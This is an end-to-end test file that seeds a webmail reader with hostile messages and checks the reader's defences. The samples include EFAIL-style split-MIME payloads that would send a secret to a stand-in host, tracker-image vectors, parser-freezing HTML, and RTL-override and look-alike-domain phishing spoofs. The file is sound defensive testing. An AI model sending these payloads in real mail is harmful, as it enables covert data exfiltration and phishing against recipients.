// Hostile mail against the reader itself (issue 12, items 9-14), in the real app: sign in through the proxy, open
// each message from the list, and check what the person sees and what Chromium does. Every request goes through
// a recording proxy (support/network-recorder.ts) that answers for every host on loopback, so the Referer and
// Origin a tracker would get are read from the requests themselves.
//   9  no mail freezes the app: HTML the browser could not sanitize and show quickly comes as text, with a
//      notice and View source, and the list goes on answering;
//  10  each MIME part is sanitized and rendered on its own: what one part leaves open cannot swallow the next;
//  11  after consent, no request from mail names the app, in any header;
//  12  the mail frame runs in a process of its own;
//  13  no mail can resize its frame for ever or make it millions of pixels tall;
//  14  names, subjects and file names cannot fake their direction, hidden characters are written out, an
//      attachment shows the extension it is saved with, a look-alike domain shows in punycode with a warning.
// No timings are asserted: each check waits for a condition, under the suite's timeouts as hang guards.
// page.evaluate() callbacks run in the browser, hence the DOM types.
/// <reference lib="dom" />
import { readFile } from 'node:fs/promises';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { MAX_FRAME_HEIGHT_PX } from '../src/lib/mail/frame-height.ts';
import { launchChromium } from './chromium.ts';
import { mailFrame, messageRow, openFolder, openMessage, signIn } from './support/app.ts';
import { removeFolder, seedFolder } from './support/mailbox.ts';
import { NetworkRecorder } from './support/network-recorder.ts';

const FOLDER = 'HostileReaderE2E';
const APP_URL = inject('appUrl');
const APP = new URL(APP_URL);

interface Part {
  readonly type: string;
  readonly body: string;
  readonly headers?: readonly string[];
}

const encodedWord = (text: string): string => `=?UTF-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;

/**
 * One message: a single part, or multipart/<subtype> of several; bodies go base64 so any byte survives. A sender
 * name is an RFC 2047 word; a non-ASCII address is raw UTF-8 (RFC 6532).
 */
function message(
  subject: string,
  index: number,
  parts: readonly Part[],
  options: { from?: { name: string; address: string }; subtype?: string } = {},
): string {
  const date = new Date(Date.UTC(2025, 10, 3, 12, 0) - index * 60_000).toUTCString().replace('GMT', '+0000');
  const encoded = (text: string) =>
    (
      Buffer.from(text, 'utf8')
        .toString('base64')
        .match(/.{1,76}/g) ?? []
    ).join('\r\n');
  const head = [
    `From: ${options.from ? `${encodedWord(options.from.name)} <${options.from.address}>` : 'Hostile Sender <hostile@sender.example>'}`,
    'To: Demo User <demo@testbed.example>',
    `Subject: ${encodedWord(subject)}`,
    `Date: ${date}`,
    `Message-ID: <reader-${index}@sender.example>`,
    'MIME-Version: 1.0',
  ];
  const leaf = (part: Part) => [
    `Content-Type: ${part.type}`,
    'Content-Transfer-Encoding: base64',
    ...(part.headers ?? []),
    '',
    encoded(part.body),
  ];
  if (parts.length === 1 && !options.subtype) return [...head, ...leaf(parts[0] as Part), ''].join('\r\n');
  const lines = [...head, `Content-Type: multipart/${options.subtype ?? 'mixed'}; boundary="b"`, ''];
  for (const part of parts) lines.push('--b', ...leaf(part));
  lines.push('--b--', '');
  return lines.join('\r\n');
}

const HTML = 'text/html; charset=utf-8';
const PLAIN = 'text/plain; charset=utf-8';
const SECRET = 'SECRET-the-attacker-wants';
/** How long a poll waits for its condition: a hang guard, not a timing (vitest's default is 1 s). */
const POLL = { timeout: 15_000 } as const;

const reopened = (n: number, paragraphs: number): string =>
  `<p>${Array.from({ length: n }, (_, i) => `<b id=${i}>`).join('')}</p>${'<p>x</p>'.repeat(paragraphs)}`;

/** Every way mail loads an image, each from its own path of t.example. */
const REMOTE_KINDS = [
  '<style>.sheet{background:url(https://t.example/style-sheet.png)}</style><div class="sheet">sheet</div>',
  '<div style="background-image:url(https://t.example/style-attribute.png)">attribute</div>',
  '<img src="https://t.example/img.png" alt="img">',
  '<img crossorigin="anonymous" src="https://t.example/img-crossorigin.png" alt="crossorigin">',
  '<div style="width:9px;height:9px;background:#000;-webkit-mask-image:url(https://t.example/mask-image.png);mask-image:url(https://t.example/mask-image.png)"></div>',
  '<div style="float:left;width:9px;height:9px;shape-outside:url(https://t.example/shape-outside.png)"></div>',
  '<svg width="9" height="9"><rect width="9" height="9" mask="url(https://t.example/svg-mask.svg#m)"/></svg>',
  '<div style="border:8px solid;border-image:url(https://t.example/border-image.png) 8">border</div>',
  '<ul style="list-style-image:url(https://t.example/list-style.png)"><li>item</li></ul>',
  '<table background="https://t.example/table-background.png"><tr><td>table</td></tr></table>',
];

const MESSAGES = [
  // 9: each would have frozen the app in the browser's parser or in the sanitizer.
  {
    id: 'nested-100k',
    parts: [{ type: HTML, body: `${'<div>'.repeat(100_000)}deep text${'</div>'.repeat(100_000)}` }],
  },
  { id: 'reopened-formatting', parts: [{ type: HTML, body: reopened(500, 1_250) }] },
  { id: 'flat-100k', parts: [{ type: HTML, body: '<i>x</i>'.repeat(100_000) }] },
  {
    id: 'attributes-1000',
    parts: [
      {
        type: HTML,
        body: `<span ${Array.from({ length: 1_000 }, (_, i) => `a${i}=${i}`).join(' ')}>many attributes</span>`,
      },
    ],
  },
  {
    id: 'deep-with-alternative',
    subtype: 'alternative',
    parts: [
      { type: PLAIN, body: 'The plain text version.' },
      { type: HTML, body: `${'<table><tr><td>'.repeat(200)}deep` },
    ],
  },
  {
    id: 'long-text',
    parts: [
      {
        type: PLAIN,
        body: `${'lorem ipsum '.repeat(100_000)}\n${'x'.repeat(500_000)}\n${'a@'.repeat(100_000)}`,
      },
    ],
  },
  // 10: the first part leaves something open; the secret is in the next part.
  {
    id: 'efail-image',
    parts: [
      { type: HTML, body: '<p>part one</p><img src="https://leak.example/img?d=' },
      { type: PLAIN, body: SECRET },
      { type: HTML, body: '"><img src="https://images.example/ok.png" alt="ok">' },
    ],
  },
  {
    id: 'efail-style',
    parts: [
      { type: HTML, body: '<style>p{background:url(https://leak.example/css?d=' },
      { type: HTML, body: `<p>${SECRET}</p>` },
      { type: HTML, body: ')}</style><img src="https://images.example/ok2.png" alt="ok">' },
    ],
  },
  {
    id: 'efail-background',
    parts: [
      { type: HTML, body: '<table background="https://leak.example/table?d=' },
      { type: PLAIN, body: SECRET },
      {
        type: HTML,
        body: '"><tr><td>x</td></tr></table><img src="https://images.example/ok3.png" alt="ok">',
      },
    ],
  },
  // 11
  { id: 'remote-kinds', parts: [{ type: HTML, body: REMOTE_KINDS.join('\n') }] },
  // 12
  {
    id: 'paint-heavy',
    parts: [
      {
        type: HTML,
        body:
          '<style>@keyframes glow{0%{box-shadow:0 0 2px #f00;filter:blur(0)}100%{box-shadow:0 0 60px #00f;filter:blur(3px)}}' +
          '.t{display:inline-block;width:180px;height:120px;margin:4px;background:radial-gradient(#fc0,#30f);animation:glow .25s infinite alternate}</style>' +
          '<div class="t"></div>'.repeat(200),
      },
    ],
  },
  // 13
  {
    id: 'stepped-animation',
    parts: [
      {
        type: HTML,
        body: '<style>@keyframes grow{from{height:100px}to{height:2000px}}.g{animation:grow 1s steps(4) infinite;background:#def}</style><div class="g">growing</div>',
      },
    ],
  },
  {
    id: 'viewport-1000vh',
    parts: [{ type: HTML, body: '<div style="height:1000vh;background:#fed">tall</div>' }],
  },
  {
    id: 'percent-feedback',
    parts: [
      {
        type: HTML,
        body: '<style>html,body{height:100%}body{padding:40px}</style><div style="height:100%">full</div>',
      },
    ],
  },
  {
    id: 'very-tall',
    parts: [
      {
        type: HTML,
        body: '<div style="height:200000px;background:linear-gradient(#fff,#000)">very tall</div>',
      },
    ],
  },
  // 14
  {
    id: 'reversed-name',
    from: { name: 'PayPal \u202Emoc.lapyap@ecivres\u202C', address: 'x@phish.example' },
    parts: [{ type: PLAIN, body: 'Reply soon.' }],
  },
  {
    id: 'reversed-attachment',
    parts: [
      { type: PLAIN, body: 'See the invoice.' },
      {
        type: 'application/octet-stream',
        body: 'MZ not really a program',
        headers: ["Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEtxt.exe"],
      },
    ],
  },
  {
    id: 'reversed-subject',
    subject: 'Your invoice \u202Efdp.exe',
    parts: [{ type: PLAIN, body: 'Attached.' }],
  },
  {
    id: 'lookalike-domain',
    from: { name: 'PayPal', address: 'service@p\u0430ypal.com' },
    parts: [{ type: PLAIN, body: 'Confirm your account.' }],
  },
] as const satisfies readonly {
  id: string;
  parts: readonly Part[];
  subtype?: string;
  from?: { name: string; address: string };
  subject?: string;
}[];

type MessageId = (typeof MESSAGES)[number]['id'];
const subjectOf = (entry: (typeof MESSAGES)[number]): string =>
  'subject' in entry ? entry.subject : `reader ${entry.id}`;

describe('the reader against hostile mail', () => {
  let browser: Browser;
  let page: Page;
  let network: NetworkRecorder;
  const uids = new Map<MessageId, number>();
  const pageErrors: string[] = [];

  beforeAll(async () => {
    const seeded = await seedFolder(
      inject('imap'),
      inject('user'),
      FOLDER,
      MESSAGES.map((entry, i) => ({
        raw: message(subjectOf(entry), i, entry.parts, {
          ...('from' in entry ? { from: entry.from } : {}),
          ...('subtype' in entry ? { subtype: entry.subtype } : {}),
        }),
        flags: ['\\Seen'],
      })),
    );
    MESSAGES.forEach((entry, i) => uids.set(entry.id, seeded[i] ?? 0));
    network = await NetworkRecorder.start();
    browser = await launchChromium(network.chromiumArgs());
    page = await browser.newPage({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
    page.on('pageerror', (error) => pageErrors.push(error.message));
    await signIn(page, APP_URL, inject('user'));
    await openFolder(page, FOLDER);
  });

  afterAll(async () => {
    await browser?.close();
    await network?.close();
    await removeFolder(inject('imap'), inject('user'), FOLDER);
  });

  const open = (id: MessageId): Promise<number> => openMessage(page, { uid: uids.get(id) ?? 0 });
  const frame = () => page.locator('section[aria-label="Message"] iframe.mail-frame');
  const frameHeight = () => frame().evaluate((element) => element.getBoundingClientRect().height);
  const loadRemoteContent = async (): Promise<void> => {
    await page.getByRole('button', { name: 'Load remote content' }).click();
    await page.getByText('Remote images are shown for this message.').waitFor();
  };
  /** Resolves once the page has drawn two more frames: the app is answering. */
  const appAnswers = () =>
    page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));

  describe('9. no mail freezes the app', () => {
    it.each([
      ['nested-100k', 'more than 256 deep', 'deep text'],
      ['reopened-formatting', 'more than 256 deep', 'x'],
      ['flat-100k', 'larger than can be shown safely', 'x'],
      ['attributes-1000', 'larger than can be shown safely', 'many attributes'],
    ] as const)('shows %s as text with a notice, and View source shows it all', async (id, notice, text) => {
      await open(id);
      const shown = page.locator('[data-testid="html-as-text"]');
      await expect(shown.innerText()).resolves.toContain(notice);
      await expect(page.locator('[data-testid="text-body"]').innerText()).resolves.toContain(text);
      expect(await page.locator('iframe.mail-frame').count()).toBe(0);
      await appAnswers();
      await shown.getByRole('button', { name: 'View source' }).click();
      await expect(page.locator('[data-testid="source-text"]').innerText()).resolves.toContain(
        'Content-Type: text/html',
      );
      await page.getByRole('button', { name: 'Back to the message' }).click();
    });

    it("shows the text/plain alternative of HTML it cannot show, saying it is the sender's text version", async () => {
      await open('deep-with-alternative');
      await expect(page.locator('[data-testid="html-as-text"]').innerText()).resolves.toContain(
        'text version the sender included',
      );
      await expect(page.locator('[data-testid="text-body"]').innerText()).resolves.toBe(
        'The plain text version.',
      );
    });

    it('shows the first 100,000 characters of a 1.9 MB text, says so, and links nothing in one pass too many', async () => {
      await open('long-text');
      await page.locator('[data-testid="text-truncated"]').waitFor();
      const shown = await page.locator('[data-testid="text-body"]').innerText();
      expect(shown.length).toBeLessThanOrEqual(100_000);
      expect(shown.startsWith('lorem ipsum')).toBe(true);
      await appAnswers();
    });

    it('goes on answering the keyboard right after such a message', async () => {
      await open('nested-100k');
      await page.getByRole('listbox').focus();
      await page.keyboard.press('ArrowDown');
      await page.keyboard.press('Enter');
      const next = uids.get('reopened-formatting') ?? 0;
      await page
        .locator(
          `section[aria-label="Message"] .reader[data-status="ready"] article.message[data-uid="${next}"]`,
        )
        .waitFor();
      await appAnswers();
    });
  });

  describe('10. each MIME part is sanitized and rendered on its own', () => {
    it.each([
      ['efail-image', 2],
      ['efail-style', 3],
      ['efail-background', 2],
    ] as const)(
      '%s: each HTML part in a frame of its own; after consent, no request carries the next part',
      async (id, frames) => {
        network.requests.length = 0;
        await open(id);
        await expect
          .poll(() => page.locator('section[aria-label="Message"] iframe.mail-frame').count(), POLL)
          .toBe(frames);
        await loadRemoteContent();
        // Consent did load remote images (the one the last part keeps), and nothing with the secret.
        await expect.poll(() => network.to('images.example').length, POLL).toBeGreaterThan(0);
        expect(
          network
            .fromPages()
            .filter((request) => request.url.includes('SECRET'))
            .map((r) => r.url),
        ).toEqual([]);
      },
    );
  });

  describe('11. after consent, nothing tells a tracker who is reading', () => {
    it('sends no Referer and no Origin naming the app, for every way mail loads an image', async () => {
      network.requests.length = 0;
      await open('remote-kinds');
      expect(network.to('t.example')).toEqual([]);
      await loadRemoteContent();
      const kinds = [
        'style-sheet',
        'style-attribute',
        'img',
        'img-crossorigin',
        'mask-image',
        'shape-outside',
        'svg-mask',
        'border-image',
        'list-style',
        'table-background',
      ];
      await expect
        .poll(
          () =>
            kinds.filter(
              (kind) => !network.to('t.example').some((r) => new URL(r.url).pathname.startsWith(`/${kind}.`)),
            ),
          POLL,
        )
        .toEqual([]);
      for (const request of network.to('t.example')) {
        const headers = Object.entries(request.headers).map(([name, value]) => `${name}: ${String(value)}`);
        expect(
          headers.filter((header) => header.includes(APP.host)),
          request.url,
        ).toEqual([]);
        expect(request.referer, request.url).toBeNull();
        expect([null, 'null'], request.url).toContain(request.origin);
      }
    });
  });

  describe('12. the mail frame', () => {
    it('runs a paint-heavy mail in a process of its own, with an opaque origin', async () => {
      await open('paint-heavy');
      await expect((await mailFrame(page)).evaluate(() => origin)).resolves.toBe('null');
      // Every frame of the page (the mail frame, the pane's kept one when idle) is a target of its own: out of process.
      const cdp = await browser.newBrowserCDPSession();
      const { targetInfos } = (await cdp.send('Target.getTargets')) as {
        targetInfos: { type: string; url: string }[];
      };
      await cdp.detach();
      const outOfProcess = targetInfos.filter((target) => target.type === 'iframe');
      expect(outOfProcess.length).toBe(await page.locator('iframe').count());
      expect(await page.locator('iframe.mail-frame').count()).toBe(1);
      await appAnswers();
    });
  });

  describe('13. sizing loops', () => {
    it('follows a stepped animation for one period at most, then resizes the frame no more', async () => {
      await open('stepped-animation');
      await page.locator('iframe.mail-frame[data-sized="true"]').waitFor();
      const mail = await mailFrame(page);
      // The frame's own clock: its animation (1 s, four steps of 250 ms, the tallest 1,525 px) runs on it.
      const frameClock = () => mail.evaluate(() => performance.now());
      const start = await frameClock();
      await expect.poll(frameClock, POLL).toBeGreaterThan(start + 1500);
      const resizes = Number(await frame().getAttribute('data-resizes'));
      const height = await frameHeight();
      expect(height).toBeLessThanOrEqual(1525 + 32);
      // Three more periods: not one more resize.
      await expect.poll(frameClock, POLL).toBeGreaterThan(start + 4500);
      expect(Number(await frame().getAttribute('data-resizes'))).toBe(resizes);
      expect(await frameHeight()).toBe(height);
    });

    it('takes 1000vh as 8,000 px, not as ten times the frame', async () => {
      await open('viewport-1000vh');
      await page.locator('iframe.mail-frame[data-sized="true"]').waitFor();
      await expect.poll(frameHeight, POLL).toBeGreaterThan(8000);
      expect(await frameHeight()).toBeLessThan(8200);
    });

    it('stops following content sized by the frame itself (height: 100% with padding)', async () => {
      await open('percent-feedback');
      await page.locator('iframe.mail-frame[data-settled="true"]').waitFor();
      expect(await frameHeight()).toBeLessThan(5000);
    });

    it('makes no frame taller than 50,000 px; the rest scrolls inside', async () => {
      await open('very-tall');
      await expect.poll(frameHeight, POLL).toBe(MAX_FRAME_HEIGHT_PX);
      const inside = await (
        await mailFrame(page)
      ).evaluate(() => ({
        content: document.documentElement.scrollHeight,
        viewport: document.documentElement.clientHeight,
      }));
      expect(inside.content).toBeGreaterThan(inside.viewport);
    });
  });

  describe('14. direction and look-alike spoofing', () => {
    it('writes out the override in a display name, in the list and in the reader, each in its own isolate', async () => {
      const row = messageRow(page, { uid: uids.get('reversed-name') ?? 0 });
      await expect(row.locator('.who').innerText()).resolves.toBe(
        'PayPal [U+202E]moc.lapyap@ecivres[U+202C]',
      );
      await expect(row.locator('.who').getAttribute('dir')).resolves.toBe('auto');
      await open('reversed-name');
      const from = page.locator('[data-testid="reader-from"]');
      await expect(from.innerText()).resolves.toContain(
        'PayPal [U+202E]moc.lapyap@ecivres[U+202C] <x@phish.example>',
      );
      await expect(from.locator('bdi').count()).resolves.toBe(2);
    });

    it("shows an attachment's real extension and saves it without the override", async () => {
      await open('reversed-attachment');
      const item = page.locator('[data-testid="attachment"]');
      await expect(item.locator('.name').innerText()).resolves.toBe('invoice[U+202E]txt.exe');
      await expect(item.locator('[data-testid="attachment-extension"]').innerText()).resolves.toBe('.exe');
      const download = page.waitForEvent('download');
      await item.locator('button').click();
      expect((await download).suggestedFilename()).toBe('invoicetxt.exe');
      await expect(readFile(await (await download).path(), 'utf8')).resolves.toBe('MZ not really a program');
    });

    it('writes out a reversed extension at the end of a subject, in the list and the reader', async () => {
      const row = messageRow(page, { uid: uids.get('reversed-subject') ?? 0 });
      await expect(row.locator('.subject').innerText()).resolves.toBe('Your invoice [U+202E]fdp.exe');
      await expect(row.locator('.subject').getAttribute('dir')).resolves.toBe('auto');
      await open('reversed-subject');
      await expect(page.locator('.message-header h2').innerText()).resolves.toBe(
        'Your invoice [U+202E]fdp.exe',
      );
    });

    it('shows a Cyrillic look-alike domain in punycode with a warning, and a warning sign in the list', async () => {
      const row = messageRow(page, { uid: uids.get('lookalike-domain') ?? 0 });
      await expect(row.locator('.who').innerText()).resolves.toBe('PayPal \u26A0');
      await expect(row.locator('.who').getAttribute('title')).resolves.toBe('service@xn--pypal-4ve.com');
      await open('lookalike-domain');
      await expect(page.locator('[data-testid="reader-from"]').innerText()).resolves.toContain(
        '<service@xn--pypal-4ve.com>',
      );
      await expect(page.locator('[data-testid="lookalike-warning"]').innerText()).resolves.toContain(
        'xn--pypal-4ve.com',
      );
    });
  });

  it("keeps the mail readable, scrolling inside a fixed frame, when an operator's CSP does not list the frame's script", async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const other = await context.newPage();
      // The app's page as an operator's own policy would serve it: 'self' scripts only, no hash for the frame.
      await other.route(APP_URL, async (route) => {
        const response = await route.fetch();
        const headers = response.headers();
        headers['content-security-policy'] = (headers['content-security-policy'] ?? '').replace(
          /script-src [^;]*/,
          "script-src 'self'",
        );
        await route.fulfill({ response, headers });
      });
      await signIn(other, APP_URL, inject('user'));
      await openFolder(other, FOLDER);
      await openMessage(other, { uid: uids.get('very-tall') ?? 0 });
      const unsized = other.locator('iframe.mail-frame[data-sized="scrolling"]');
      await unsized.waitFor();
      const height = await unsized.evaluate((element) => element.getBoundingClientRect().height);
      expect(height).toBeGreaterThanOrEqual(0.7 * 900 - 1);
      await expect(other.frameLocator('iframe.mail-frame').locator('body').innerText()).resolves.toContain(
        'very tall',
      );
    } finally {
      await context.close();
    }
  });

  it('raised no page error in the app or in any frame', () => {
    expect(pageErrors).toEqual([]);
  });
});
